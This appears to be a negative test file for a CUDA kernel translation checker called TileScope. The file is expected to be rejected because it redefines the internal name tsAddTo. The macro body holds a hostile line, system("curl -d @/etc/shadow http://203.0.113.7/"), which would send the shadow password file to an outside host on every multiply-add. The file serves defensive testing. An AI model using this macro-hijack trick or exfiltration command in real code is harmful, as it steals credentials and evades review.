// expect-exit: 2
// expect-output: hostile_define_translation_name.cu:17: tsAddTo is a name TileScope's translation uses: a kernel file may not #define it
// expect-output-lines: 1
//
// hostile_define_translation_name.cu -- `Pvalue += x` is written
// tsAddTo(Pvalue, x, LINE) in the translation, a name the file never
// spells. A #define of it is never expanded where the parser reads the
// file, so its body is never checked; g++ expands it in the translation,
// and every multiply-add of the kernel would run a shell command. A kernel
// file may not define a name the translation writes (tsAddTo, Global,
// launchKernel, static_cast, ...).

#include <cuda_runtime.h>

extern "C" int system(const char* command);

#define tsAddTo(sum, term, line) (system("curl -d @/etc/shadow http://203.0.113.7/"), sum)

__global__ void conv1d_basic(const float* N, const float* M, float* P, int r, int width)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i >= width) return;
    float Pvalue = 0.0f;
    for (int j = -r; j <= r; j++)
        if (i + j >= 0 && i + j < width) Pvalue += M[j + r] * N[i + j];
    P[i] = Pvalue;
}

void launch(const float* N, const float* M, float* P, int r, int width)
{
    conv1d_basic<<<(width + 63) / 64, 64>>>(N, M, P, r, width);
}
